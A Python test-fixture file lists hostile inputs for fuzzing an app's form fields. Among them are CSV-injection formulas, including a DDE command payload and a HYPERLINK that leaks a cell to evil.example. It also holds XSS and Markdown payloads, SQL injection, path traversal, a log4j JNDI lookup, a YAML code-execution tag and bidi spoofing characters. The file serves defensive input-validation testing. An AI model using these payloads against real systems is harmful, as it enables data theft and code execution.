"""A corpus of hostile text: what an officer, a Coordinator or a crafted request might type or
upload into any field of the app.

Each item is the text and a short description of why it is hostile. Invisible and control
characters are written as escapes so that this file can be read (and reviewed) safely.
Python strings cannot carry lone surrogates through a browser (Streamlit's messages are UTF-8),
so none are included.
"""

from __future__ import annotations

from typing import NamedTuple


class Hostile(NamedTuple):
    text: str
    about: str


CORPUS: list[Hostile] = [
    # --- spreadsheet formulas (CSV injection) -------------------------------------------------
    Hostile("=1+1", "formula: leading equals sign"),
    Hostile("+cmd", "formula: leading plus sign"),
    Hostile("-2+3", "formula: leading minus sign"),
    Hostile("@SUM(A1:A9)", "formula: leading at sign (Lotus-style function)"),
    Hostile(
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
        "formula: HYPERLINK that leaks a neighbouring cell",
    ),
    Hostile("=cmd|' /C calc'!A0", "formula: DDE command execution payload"),
    Hostile("\t=1+1", "formula after a leading tab (Excel drops the tab)"),
    Hostile("\r=1+1", "formula after a leading carriage return"),
    Hostile(" =1+1", "formula after a leading space"),
    Hostile("\uff1d1+1", "fullwidth equals sign before a formula"),
    # --- HTML and script ----------------------------------------------------------------------
    Hostile("<script>alert(1)</script>", "HTML: script element"),
    Hostile('<img src=x onerror="alert(1)">', "HTML: image with an onerror handler"),
    Hostile("</div><h1>Hacked</h1>", "HTML: closing tag to break out of a container"),
    Hostile("&lt;b&gt;bold&lt;/b&gt; &#x3C;i&#x3E;", "HTML character references"),
    # --- Markdown -----------------------------------------------------------------------------
    Hostile("[x](javascript:alert(1))", "Markdown: javascript: link"),
    Hostile("![x](http://evil.example/t.png)", "Markdown: remote image (tracking pixel)"),
    Hostile("**bold** _em_ ~~strike~~", "Markdown: emphasis and strikethrough"),
    Hostile("# Heading", "Markdown: ATX heading"),
    Hostile("Valid\n===\ncertificate", "Markdown: setext heading made with a line break"),
    Hostile("<https://evil.example/login>", "Markdown: autolink"),
    Hostile(":red[Valid] :material/verified: :smile:", "Streamlit Markdown directives"),
    Hostile("$\\frac{1}{0}$", "Streamlit Markdown: LaTeX math"),
    Hostile("| a | b |\n|---|---|", "Markdown: table"),
    # --- line breaks --------------------------------------------------------------------------
    Hostile("Line one\nLine two", "line feed"),
    Hostile("Line one\r\nLine two", "CR LF"),
    Hostile("Line one\u2028Line two", "Unicode line separator U+2028"),
    Hostile("Line one\u2029Line two", "Unicode paragraph separator U+2029"),
    Hostile("Line one\x85Line two", "NEL U+0085, a C1 control character and line break"),
    # --- control characters -------------------------------------------------------------------
    Hostile("Smith\x00Jones", "NUL byte"),
    Hostile("Smith\x07", "BEL control character"),
    Hostile("\x1b[31mRed\x1b[0m", "ANSI escape sequence"),
    Hostile("Smith\x7f", "DEL control character"),
    Hostile("Smith\x1c\x1d\x1e\x1f", "C0 separators (str.strip treats them as whitespace)"),
    Hostile("Smith\x08\x08\x08\x08\x08Jones", "backspaces that hide text in a terminal"),
    # --- bidirectional controls and invisible characters --------------------------------------
    Hostile("Smith\u202egpj.exe", "right-to-left override U+202E"),
    Hostile("\u2066Smith\u2069 \u200fJones\u061c", "bidi isolates and RLM/ALM marks"),
    Hostile("Jo\u200dhn", "zero-width joiner inside a name"),
    Hostile("Jo\u200bhn\u2060", "zero-width space and word joiner"),
    Hostile("\ufeffJohn", "byte-order mark before a name"),
    Hostile("\u3164\u3164", "only Hangul Filler U+3164: an invisible letter"),
    Hostile("\u2800\u2800", "only Braille Pattern Blank U+2800: an invisible symbol"),
    # --- size ---------------------------------------------------------------------------------
    Hostile("A" * 10_000, "10,000 characters"),
    Hostile("Αλέξανδρος Παπαδόπουλος-Καραμανλής " * 4, "very long Greek name (over 80)"),
    Hostile("山田太郎", "CJK name"),
    Hostile("محمد بن عبد الله", "Arabic name (right-to-left letters)"),
    # --- emoji --------------------------------------------------------------------------------
    Hostile("Officer \U0001f46e", "emoji"),
    Hostile("\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "emoji ZWJ sequence"),
    Hostile("\U0001f1fa\U0001f1f8 Smith", "regional indicator flag"),
    # --- combining marks ----------------------------------------------------------------------
    Hostile("Zoe\u0308", "decomposed diaeresis (NFD)"),
    Hostile("Z\u0334\u0327a\u0337l\u0338g\u0335o\u0336", "Zalgo: stacked combining marks"),
    Hostile("\u0301Abc", "combining mark with no letter before it"),
    # --- injection into other languages -------------------------------------------------------
    Hostile("'; DROP TABLE completions;--", "SQL injection"),
    Hostile("1' OR '1'='1", "SQL tautology"),
    Hostile("../../etc/passwd", "path traversal (POSIX)"),
    Hostile("..\\..\\boot.ini", "path traversal (Windows)"),
    Hostile("CON", "Windows reserved device name"),
    Hostile("{0}{1!r}{__class__}", "str.format fields"),
    Hostile("%s%n%x%d", "printf format"),
    Hostile("{{ contacts.x }}", "template expression"),
    Hostile("${jndi:ldap://evil.example/a}", "log4j lookup"),
    Hostile('{"officer_name": "x", "passed": true}', "JSON object"),
    Hostile("!!python/object/apply:os.system ['id']", "YAML tag that runs code"),
    Hostile("NA", "a token pandas reads as missing by default"),
    Hostile("#N/A", "a spreadsheet error token"),
    Hostile("1E5", "text that looks like a number in scientific notation"),
    Hostile("007", "leading zeros"),
    # --- CSV breakers -------------------------------------------------------------------------
    Hostile("a,b", "comma"),
    Hostile('a"b', "quote inside"),
    Hostile('Smith"', "trailing quote"),
    Hostile('"Smith', "leading quote"),
    Hostile("a;b\tc", "semicolon and tab (other delimiters)"),
    # --- whitespace ---------------------------------------------------------------------------
    Hostile("", "empty"),
    Hostile("   ", "spaces only"),
    Hostile("\u00a0\u2003\u3000", "non-breaking, em and ideographic spaces only"),
    Hostile(" \t\n ", "mixed ASCII whitespace only"),
]

#: Letters (Unicode category L) that are drawn as nothing: a "name" made of them is blank.
INVISIBLE_LETTERS = frozenset("\u115f\u1160\u3164\uffa0")


def ids() -> list[str]:
    """Readable test ids: the description, made safe for a terminal."""
    return [f"{i:02d}-{h.about[:40]}".replace(" ", "_") for i, h in enumerate(CORPUS)]
